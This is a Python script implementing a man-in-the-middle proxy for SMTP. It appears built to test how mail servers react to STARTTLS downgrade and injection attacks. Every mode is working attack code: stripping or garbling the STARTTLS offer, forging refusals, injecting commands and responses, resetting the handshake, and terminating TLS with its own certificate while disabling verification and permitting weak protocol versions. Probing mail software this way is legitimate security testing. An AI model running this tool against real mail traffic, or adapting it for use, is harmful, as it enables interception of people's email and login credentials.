#!/usr/bin/env python3
"""Man in the middle for SMTP, one thread per connection.

    mitm.py PORT MODE [OPTION...]

Connections arrive through an nft redirect; the address the client dialled is then the
upstream, unless --upstream names another. MODE is a name of MODES below.
"""
import argparse
import select
import socket
import ssl
import struct
import sys
import threading

SO_ORIGINAL_DST = 80
VERSIONS = {"1.0": ssl.TLSVersion.TLSv1, "1.1": ssl.TLSVersion.TLSv1_1,
            "1.2": ssl.TLSVersion.TLSv1_2, "1.3": ssl.TLSVersion.TLSv1_3}


class Mode:
    """Changes nothing. Hooks get whole lines while the dialogue is in clear."""

    def __init__(self, opts):
        self.opts = opts

    def client_line(self, s, line):
        return line

    def server_lines(self, s, lines):
        return lines

    def raw(self, s, data, from_client):
        return data


class KeywordRemoved(Mode):
    """The STARTTLS line goes; the line before takes over as the last one if need be."""

    def server_lines(self, s, lines):
        kept = [l for l in lines if not is_offer(l)]
        if len(kept) < len(lines) and kept and lines[-1][:4] == b"250 ":
            kept[-1] = b"250 " + kept[-1][4:]
        return kept


class KeywordGarbled(Mode):
    """Same length, other letters: what a firewall that rewrites in place does."""

    def server_lines(self, s, lines):
        return [l[:4] + b"XXXXXXXA\r\n" if is_offer(l) else l for l in lines]


class Refused(Mode):
    """STARTTLS never reaches the server; the answer is ours."""

    reply = b"454 4.7.0 TLS not available due to temporary reason\r\n"

    def client_line(self, s, line):
        if is_starttls(line):
            s.client.send(self.reply)
            return b""
        return line


class Refused502(Refused):
    reply = b"502 5.5.1 Command not implemented\r\n"


class EhloRefused(Mode):
    """The host name stays in the banner, else Postfix would not even try EHLO."""

    def server_lines(self, s, lines):
        if s.banner_seen:
            return lines
        s.banner_seen = True
        return [mask_banner(lines[0], keep=2)] + lines[1:]

    def client_line(self, s, line):
        if line[:5].upper() == b"EHLO ":
            s.client.send(b"502 5.5.1 Command not implemented\r\n")
            return b""
        return line


class BannerMasked(Mode):
    """Nothing but asterisks after 220: Postfix takes it for a PIX and says HELO."""

    def server_lines(self, s, lines):
        if s.banner_seen:
            return lines
        s.banner_seen = True
        return [mask_banner(lines[0], keep=1)] + lines[1:]


class CommandOverwritten(Mode):
    def client_line(self, s, line):
        return b"XXXXXXXX\r\n" if is_starttls(line) else line


class ResetHello(Mode):
    """Both ends are reset as soon as the ClientHello has gone by."""

    def raw(self, s, data, from_client):
        if from_client and data[:1] == b"\x16":
            s.server.send(data)
            s.reset()
        return data


class CommandInjection(Mode):
    """A command rides behind STARTTLS in the same segment."""

    def client_line(self, s, line):
        return line + b"RSET\r\nNOOP injected\r\n" if is_starttls(line) else line


class ResponseInjection(Mode):
    """Replies ride behind the 220 in the same segment."""

    def server_lines(self, s, lines):
        if s.asked_tls and lines and lines[0][:3] == b"220":
            return lines + [b"250-mx1.example.org\r\n", b"250 AUTH PLAIN LOGIN\r\n"]
        return lines


class Eaten220(Mode):
    """We say 220 ourselves and pass the rest on: the server reads the ClientHello as commands."""

    def client_line(self, s, line):
        if is_starttls(line):
            s.client.send(b"220 2.0.0 Ready to start TLS\r\n")
            s.plain = False
            return b""
        return line


class Terminate(Mode):
    """TLS ends here, with our certificate; a second TLS session goes on to the server."""

    def server_lines(self, s, lines):
        if s.asked_tls and lines and lines[0][:3] == b"220":
            s.server.start_tls(self.context(ssl.PROTOCOL_TLS_CLIENT, self.opts.server_max), False)
            s.client.send(lines[0])
            s.client.start_tls(self.context(ssl.PROTOCOL_TLS_SERVER, self.opts.client_max), True)
            s.plain = False
            return []
        return self.renamed(lines)

    def renamed(self, lines):
        """A rogue MX speaks under the name that the forged answer gave it."""
        if not self.opts.rename:
            return lines
        name = self.opts.rename.encode()
        return [l.replace(b"mx1.example.org", name) for l in lines]

    def context(self, side, newest):
        ctx = ssl.SSLContext(side)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        # Old versions need the lowest security level of OpenSSL 3.
        ctx.set_ciphers("DEFAULT:@SECLEVEL=0")
        ctx.minimum_version = ssl.TLSVersion.TLSv1
        ctx.maximum_version = VERSIONS[newest]
        if side == ssl.PROTOCOL_TLS_SERVER:
            ctx.load_cert_chain(self.opts.cert)
        return ctx


class PlainOnward(Terminate):
    """TLS with the sender, clear text with the server, which only sees a client without TLS."""

    def client_line(self, s, line):
        if is_starttls(line):
            s.client.send(b"220 2.0.0 Ready to start TLS\r\n")
            s.client.start_tls(self.context(ssl.PROTOCOL_TLS_SERVER, self.opts.client_max), True)
            s.plain = False
            return b""
        return line


MODES = {"pass": Mode, "keyword-removed": KeywordRemoved, "keyword-garbled": KeywordGarbled,
         "inject-454": Refused, "inject-5xx": Refused502, "ehlo-refused": EhloRefused,
         "banner-masked": BannerMasked, "command-overwritten": CommandOverwritten,
         "reset-clienthello": ResetHello, "command-injection": CommandInjection,
         "response-injection": ResponseInjection, "no-tls-after-220": Eaten220,
         "terminate": Terminate, "plain-onward": PlainOnward}


def is_offer(line):
    return line[:3] == b"250" and line[4:].strip().upper() == b"STARTTLS"


def is_starttls(line):
    return line.strip().upper() == b"STARTTLS"


def mask_banner(line, keep):
    """Asterisks for every visible character after the first `keep` words."""
    words = line.rstrip(b"\r\n").split(b" ")
    return b" ".join(words[:keep] + [b"*" * len(w) for w in words[keep:]]) + b"\r\n"


class Leg:
    """One side of a connection, in clear or in TLS."""

    def __init__(self, sock):
        self.sock, self.tls, self.buf, self.open = sock, False, b"", True
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def send(self, data):
        if data:
            self.sock.settimeout(30)
            self.sock.sendall(data)

    def recv(self):
        """What has arrived: None for nothing yet, empty for the end."""
        # Readable does not mean data: it may be a session ticket or half a record.
        self.sock.settimeout(0)
        try:
            return self.sock.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            return None
        except (ssl.SSLError, ConnectionError):
            return b""

    def start_tls(self, ctx, as_server):
        self.sock.settimeout(30)
        self.sock = ctx.wrap_socket(self.sock, server_side=as_server)
        self.tls = True

    def pending(self):
        return self.tls and self.sock.pending()

    def finish(self):
        """End of our sending; TLS says so in its own words first."""
        try:
            self.sock.settimeout(2)
            if self.tls:
                self.sock.unwrap()
            self.sock.shutdown(socket.SHUT_WR)
        except (OSError, ValueError):
            pass

    def abort(self):
        """Close so that the peer gets a reset, not an orderly end."""
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.sock.close()


class Reset(Exception):
    pass


class Session:
    """Relays between the two legs and lets the mode see what passes."""

    def __init__(self, client, server, mode):
        self.client, self.server, self.mode = Leg(client), Leg(server), mode
        self.plain, self.asked_tls, self.banner_seen = True, False, False

    def reset(self):
        self.client.abort()
        self.server.abort()
        raise Reset

    def run(self):
        legs = {self.client, self.server}
        while legs:
            ready = [l for l in legs if l.pending()]
            if not ready:
                socks = {l.sock: l for l in legs}
                found = select.select(list(socks), [], [], 120)[0]
                if not found:
                    break
                ready = [socks[s] for s in found]
            for leg in ready:
                data = leg.recv()
                if data:
                    self.pump(leg, data)
                elif data is not None:
                    legs.discard(leg)
                    (self.server if leg is self.client else self.client).finish()
        self.client.sock.close()
        self.server.sock.close()

    def pump(self, leg, data):
        from_client = leg is self.client
        to = self.server if from_client else self.client
        if not self.plain:
            to.send(self.mode.raw(self, data, from_client))
            return
        leg.buf += data
        *lines, leg.buf = leg.buf.split(b"\n")
        lines = [l + b"\n" for l in lines]
        # What came in one segment leaves in one segment.
        if from_client:
            to.send(b"".join(self.client_line(l) for l in lines))
        elif lines:
            to.send(b"".join(self.mode.server_lines(self, lines)))
            if self.asked_tls and lines[-1][:3] == b"220":
                self.plain = False
            self.asked_tls = False

    def client_line(self, line):
        out = self.mode.client_line(self, line)
        self.asked_tls = is_starttls(out.split(b"\n")[0])
        return out


def original(sock):
    """The address that the client dialled, before nft turned the connection to us."""
    if sock.family == socket.AF_INET6:
        raw = sock.getsockopt(socket.IPPROTO_IPV6, SO_ORIGINAL_DST, 28)
        return socket.inet_ntop(socket.AF_INET6, raw[8:24]), struct.unpack("!H", raw[2:4])[0]
    raw = sock.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
    return socket.inet_ntoa(raw[4:8]), struct.unpack("!H", raw[2:4])[0]


def serve(conn, mode, upstream):
    try:
        dst = (upstream, 25) if upstream else original(conn)
        Session(conn, socket.create_connection(dst, 10), mode).run()
    except Reset:
        pass
    except OSError as e:
        print(f"session ended: {e}", flush=True)
        conn.close()


def listen(family, address, port):
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if family == socket.AF_INET6:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    sock.bind((address, port))
    sock.listen(16)
    return sock


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("port", type=int)
    p.add_argument("mode", choices=MODES)
    p.add_argument("--upstream", help="instead of the dialled address")
    p.add_argument("--bind", default="0.0.0.0", help="IPv4 address to listen on")
    p.add_argument("--cert", help="key and chain for TLS towards the client")
    p.add_argument("--client-max", default="1.3", choices=VERSIONS)
    p.add_argument("--server-max", default="1.3", choices=VERSIONS)
    p.add_argument("--rename", help="our own name in banner and greeting")
    opts = p.parse_args()
    socks = [listen(socket.AF_INET, opts.bind, opts.port)]
    if opts.bind == "0.0.0.0":
        socks.append(listen(socket.AF_INET6, "::", opts.port))
    print("listening", flush=True)
    while True:
        for sock in select.select(socks, [], [])[0]:
            conn = sock.accept()[0]
            threading.Thread(target=serve, args=(conn, MODES[opts.mode](opts), opts.upstream),
                             daemon=True).start()


if __name__ == "__main__":
    sys.exit(main())
